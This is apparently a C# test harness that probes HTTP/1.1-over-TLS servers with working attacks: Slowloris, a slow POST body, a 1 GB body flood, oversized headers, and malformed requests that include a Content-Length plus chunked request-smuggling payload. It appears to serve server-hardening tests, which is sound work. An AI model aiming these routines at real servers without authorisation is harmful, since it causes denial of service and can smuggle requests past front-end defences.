using System.Text;

namespace Roost.Abuse;

/// <summary>Attacks over HTTP/1.1 on TLS (ALPN http/1.1).</summary>
public static class Http1Attacks
{
    /// <summary>Malformed requests, each on its own connection: name → bytes. A serious server answers 400 (or 431/414) and closes.</summary>
    public static readonly IReadOnlyList<(string Name, string Request)> MalformedRequests =
    [
        ("bad request line", "GARBAGE LINE\r\nHost: localhost\r\n\r\n"),
        ("bad HTTP version", "GET / HTTP/9.9\r\nHost: localhost\r\n\r\n"),
        ("duplicate Content-Length", "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!"),
        ("negative Content-Length", "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n"),
        ("Content-Length with chunked", "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("bad chunk size", "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n"),
        ("NUL in header value", "GET / HTTP/1.1\r\nHost: localhost\r\nX-A: a\0b\r\n\r\n"),
        ("CR in header value", "GET / HTTP/1.1\r\nHost: localhost\r\nX-A: a\rb\r\n\r\n"),
        ("space before colon", "GET / HTTP/1.1\r\nHost : localhost\r\n\r\n"),
        ("obsolete line folding", "GET / HTTP/1.1\r\nHost: localhost\r\nX-A: a\r\n b\r\n\r\n"),
        ("no Host header", "GET / HTTP/1.1\r\n\r\n"),
    ];

    public static readonly Attack Slowloris = new("slowloris", "HTTP/1.1 request headers trickled, one 8-byte header line per second, never finished", 200,
        (target, settings, tally, ct) => Attack.LoopAsync(settings, tally, ct, async token =>
        {
            await using var wire = await Wire.TlsAsync(target, "http/1.1", token).ConfigureAwait(false);
            tally.Connected();
            await TrickleAsync(wire, tally, Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: {target.Authority}\r\n"), i => $"X-{i % 100:00}: a\r\n", token).ConfigureAwait(false);
        }));

    public static readonly Attack SlowBody = new("slow-body", "POST with Content-Length 1 MB, the body trickled at 10 bytes a second", 200,
        (target, settings, tally, ct) => Attack.LoopAsync(settings, tally, ct, async token =>
        {
            await using var wire = await Wire.TlsAsync(target, "http/1.1", token).ConfigureAwait(false);
            tally.Connected();
            var head = $"POST / HTTP/1.1\r\nHost: {target.Authority}\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n";
            await TrickleAsync(wire, tally, Encoding.ASCII.GetBytes(head), _ => "0123456789", token).ConfigureAwait(false);
        }));

    public static readonly Attack Malformed = new("malformed-h1", "malformed HTTP/1.1 requests: " + string.Join(", ", MalformedRequests.Select(r => r.Name)), 4,
        (target, settings, tally, ct) => Attack.LoopAsync(settings, tally, ct, async token =>
        {
            foreach (var (name, request) in MalformedRequests)
            {
                var answer = await OneShotAsync(target, Encoding.Latin1.GetBytes(request), tally, token).ConfigureAwait(false);
                if (token.IsCancellationRequested)
                {
                    return; // cut short by the end of the attack: not an answer
                }

                tally.Answer($"{name}: {answer}");
            }
        }));

    public static readonly Attack OversizedHeaders = new("oversized-headers-h1", "HTTP/1.1 requests with 64 KB of headers (32 × 2 KB), and with a 16 KB URL", 4,
        (target, settings, tally, ct) => Attack.LoopAsync(settings, tally, ct, async token =>
        {
            var headers = new StringBuilder($"GET / HTTP/1.1\r\nHost: {target.Authority}\r\n");
            for (var i = 0; i < 32; i++)
            {
                headers.Append(CultureInfoInvariant($"X-Big-{i}: ")).Append('a', 2048).Append("\r\n");
            }

            headers.Append("\r\n");
            var url = $"GET /{new string('a', 16384)} HTTP/1.1\r\nHost: {target.Authority}\r\n\r\n";
            foreach (var (name, request) in new[] { ("64 KB of headers", headers.ToString()), ("16 KB URL", url) })
            {
                var answer = await OneShotAsync(target, Encoding.ASCII.GetBytes(request), tally, token).ConfigureAwait(false);
                if (token.IsCancellationRequested)
                {
                    return; // cut short by the end of the attack: not an answer
                }

                tally.Answer($"{name}: {answer}");
            }
        }));

    public static readonly Attack LargeBody = new("large-body-h1", "HTTP/1.1 POST declaring 1 GB, body sent as fast as the server takes it", 2,
        (target, settings, tally, ct) => Attack.LoopAsync(settings, tally, ct, async token =>
        {
            await using var wire = await Wire.TlsAsync(target, "http/1.1", token).ConfigureAwait(false);
            tally.Connected();
            var received = new MemoryStream();
            var reading = wire.ReadToEndAsync(received, token);
            var head = $"POST / HTTP/1.1\r\nHost: {target.Authority}\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000000000\r\n\r\n";
            var chunk = new byte[65536];
            var ok = await wire.TryWriteAsync(Encoding.ASCII.GetBytes(head), token).ConfigureAwait(false);
            var sent = 0L;
            while (ok && !reading.IsCompleted && sent < 1_000_000_000 && !token.IsCancellationRequested)
            {
                ok = await wire.TryWriteAsync(chunk, token).ConfigureAwait(false);
                sent += chunk.Length;
            }

            tally.Add(sent);
            await Task.WhenAny(reading, Task.Delay(2000, CancellationToken.None)).ConfigureAwait(false);
            Record(tally, wire, received, reading.IsCompleted ? await reading.ConfigureAwait(false) : null);
        }));

    /// <summary>Sends <paramref name="request"/> on a new connection and says what came back within 5 s ("400 then closed").</summary>
    public static async Task<string> OneShotAsync(Target target, byte[] request, Tally tally, CancellationToken cancellationToken)
    {
        await using var wire = await Wire.TlsAsync(target, "http/1.1", cancellationToken).ConfigureAwait(false);
        tally.Connected();
        tally.Add(1);
        var received = new MemoryStream();
        using var timeout = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        timeout.CancelAfter(TimeSpan.FromSeconds(5));
        var reading = wire.ReadToEndAsync(received, timeout.Token);
        await wire.TryWriteAsync(request, timeout.Token).ConfigureAwait(false);
        var ending = await reading.ConfigureAwait(false);
        return Describe(received, ending);
    }

    /// <summary>"400 then closed", "200 then open", "closed"…</summary>
    public static string Describe(MemoryStream received, string? ending)
    {
        var status = Wire.Http1Status(received);
        var end = ending ?? "open";
        return status is null ? end : $"{status} then {end}";
    }

    private static async Task TrickleAsync(Wire wire, Tally tally, byte[] head, Func<int, string> piece, CancellationToken token)
    {
        var received = new MemoryStream();
        var reading = wire.ReadToEndAsync(received, token);
        var ok = await wire.TryWriteAsync(head, token).ConfigureAwait(false);
        for (var i = 0; ok && !reading.IsCompleted && !token.IsCancellationRequested; i++)
        {
            await Task.WhenAny(reading, Task.Delay(1000, token)).ConfigureAwait(false);
            if (reading.IsCompleted || token.IsCancellationRequested)
            {
                break;
            }

            ok = await wire.TryWriteAsync(Encoding.ASCII.GetBytes(piece(i)), token).ConfigureAwait(false);
            tally.Add(1);
        }

        Record(tally, wire, received, await reading.ConfigureAwait(false));
    }

    private static void Record(Tally tally, Wire wire, MemoryStream received, string? ending)
    {
        if (ending is not null)
        {
            tally.ServerEnded(wire.Age);
        }

        tally.Answer(Describe(received, ending));
    }

    private static string CultureInfoInvariant(FormattableString text) => FormattableString.Invariant(text);
}
